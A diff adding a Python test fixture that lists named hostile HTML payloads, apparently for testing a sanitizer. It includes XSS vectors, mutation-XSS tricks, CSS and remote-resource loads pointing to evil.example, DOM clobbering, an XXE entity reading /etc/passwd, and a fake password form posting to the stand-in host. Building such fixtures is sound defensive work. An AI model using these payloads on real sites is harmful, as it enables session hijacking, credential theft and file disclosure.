@@ -1,0 +1,65 @@
+"""Hostile HTML written for this project, named by what it tries. `ran()` is what a script of theirs would call."""
+
+# ruff: noqa: E501  # a payload is one line
+from __future__ import annotations
+
+PAYLOADS = {
+    "script": "<script>ran()</script>",
+    "script in upper case and broken": "<SCR\0IPT >ran()</SCRIPT\n>",
+    "script behind an unclosed comment": "<!-- x --!><script>ran()</script>",
+    "script in a conditional comment": "<!--[if gte mso 9]><script>ran()</script><![endif]--><![if !mso]><b onclick=ran()>x",
+    "event handler": "<img src=x onerror=ran()><body onload=ran()><p onmouseover='ran()'>x",
+    "event handler glued by slashes": "<img/src=x/onerror=ran()//>",
+    "event handler behind a quote": "<img src=\"x\"onerror=\"ran()\"><img src='`' onerror='ran()'>",
+    "handler split over lines": "<img src=x\n\nonerror\n=\nran()>",
+    "javascript address": "<a href='javascript:ran()'>x</a><a href='JaVa\tScRiPt:ran()'>x</a>",
+    "javascript address by entities": "<a href='&#106;avascript&colon;ran()'>x</a><a href='&#x01;javascript:ran()'>x</a>",
+    "data address": "<a href='data:text/html,<script>ran()</script>'>x</a><iframe src='data:text/html,<script>ran()</script>'>",
+    "vbscript and other schemes": "<a href='vbscript:ran()'>x</a><a href='file:///etc/passwd'>x</a><a href='blob:x'>x</a>",
+    "frame": "<iframe srcdoc='<script>parent.ran()</script>'></iframe><frame src=javascript:ran()><object data=//evil.example>",
+    "embedded objects": "<embed src=//evil.example/x.swf><applet code=x><object><param name=movie value=//evil.example>",
+    "svg script": "<svg><script>ran()</script></svg><svg onload=ran()><svg/onload=ran()>",
+    "svg image and use": "<svg><image href=//evil.example/a.png /><use href='//evil.example/b#x'/><feImage href=//evil.example/c />",
+    "svg animation": "<svg><a><animate attributeName=href values=javascript:ran() /><text x=20 y=20>x</text></a>",
+    "foreign content that changes its mind": "<svg><style><img src=x onerror=ran()></style><p><style><img src=x onerror=ran()>",
+    "math that changes its mind": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran()&gt;'>",
+    "noscript": "<noscript><p title='</noscript><img src=x onerror=ran()>'></noscript>",
+    "template and slot": "<template><script>ran()</script><img src=//evil.example/t></template><slot onslotchange=ran()>",
+    "title, textarea and xmp": "<title><img src=x onerror=ran()></title><textarea><script>ran()</script></textarea><xmp><script>ran()</xmp>",
+    "plain text that never ends": "<plaintext><script>ran()</script>",
+    "form that asks for a password": "<form action=//evil.example><input name=password type=password autofocus onfocus=ran()>"
+    "<button formaction=javascript:ran()>Sign in</button><select><option>x</select><keygen autofocus onfocus=ran()></form>",
+    "meta and base": "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/><link rel=stylesheet href=//evil.example>",
+    "prefetch": "<link rel=prefetch href=//evil.example/p><link rel=dns-prefetch href=//evil.example><link rel=icon href=//evil.example/i>",
+    "style sheet": "<style>@import '//evil.example/x.css';body{background:url(//evil.example/y)}</style>",
+    "style that loads": "<p style='background:url(//evil.example/1)'>x<p style='background-image:image-set(\"//evil.example/2\" 1x)'>x"
+    "<p style='list-style:url(//evil.example/3)'>x<p style='cursor:url(//evil.example/4),auto'>x<p style='content:url(//evil.example/5)'>",
+    "style that loads by escapes": "<p style='background:u\\72l(//evil.example/1)'>x<p style='background:ur/**/l(//evil.example/2)'>x",
+    "style that covers": "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9'>Sign in again</div>"
+    "<div style='margin-top:-900px'>over</div><div style='transform:scale(99)'>x</div>",
+    "style that runs": "<p style='width:expression(ran())'>x<p style='behavior:url(x.htc)'>x<p style='-moz-binding:url(x)'>x",
+    "remote images": "<img src=http://evil.example/1><img src=//evil.example/2><img srcset='http://evil.example/3 1x'>"
+    "<input type=image src=//evil.example/4><picture><source srcset=//evil.example/5><img></picture><img lowsrc=//evil.example/6>",
+    "remote backgrounds": "<table background=//evil.example/1><td background='http://evil.example/2'>x</table><body background=//evil.example/3>",
+    "remote media": "<video src=//evil.example/1 poster=//evil.example/2 autoplay><audio src=//evil.example/3 autoplay><track src=//evil.example/4>",
+    "pages of our own as images": "<img src=/logout><img src='./api/cases/1/delete'><img src='?x'><img src='\\\\evil.example\\x'>",
+    "image that is a document": "<img src='data:image/svg+xml,<svg onload=ran()>'><img src='data:text/html;base64,PHNjcmlwdD4='>",
+    "content by cid that is not ours": "<img src='cid:\"><script>ran()</script>'><iframe src=cid:x></iframe><a href=cid:x>x</a>",
+    "htmx attributes": "<div hx-get=//evil.example/1 hx-trigger=load data-hx-post=/logout hx-on:load=ran()>x</div>"
+    "<div hx-on--load='ran()' data-hx-on=ran() sse-connect=//evil.example ws-connect=//evil.example>x</div>",
+    "names that shadow ours": "<a id=csrf name=csrf href=https://evil.example>x</a><img name=cookie><form id=getElementById>",
+    "classes of ours": "<div class='modal fixed inset-0' id=main data-action=delete>x</div>",
+    "custom elements": "<x-app onfocus=ran() tabindex=1 autofocus>x</x-app><dialog open>x</dialog><portal src=//evil.example>",
+    "popover and commands": "<button popovertarget=x onclick=ran()>x</button><div popover id=x onbeforetoggle=ran()>x</div>",
+    "contenteditable and drag": "<div contenteditable onblur=ran() autofocus draggable=true ondragstart=ran()>x</div>",
+    "broken nesting": "<table><td><a href=x><table><a href=//evil.example onclick=ran()></table>y<b><p></b><i></p>",
+    "unclosed attribute": "<img src=\"x onerror=ran() <p>text <script>ran()</script>",
+    "tag in a tag": "<<script>script>ran()<</script>/script><a<b>c</a<b onclick=ran()>",
+    "xml and processing": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x:script>ran()</x:script>&e;",
+    "cdata": "<![CDATA[<script>ran()</script>]]><svg><![CDATA[><img src=x onerror=ran()>]]></svg>",
+    "utf-7": "+ADw-script+AD4-ran()+ADw-/script+AD4-",
+    "noncharacters that stand in for brackets": "\ufdd1script\ufdd2ran()\ufdd1/script\ufdd2\ufdd0lt;script\ufdd0gt;",
+    "target and opener": "<a href=https://evil.example target=_top rel=opener ping=//evil.example/p download>x</a>",
+    "area map": "<img usemap=#m src=x><map name=m><area href=javascript:ran() shape=default></map>",
+    "marquee and details": "<marquee onstart=ran()>x</marquee><details open ontoggle=ran()><summary>x</summary></details>",
+}  # fmt: skip
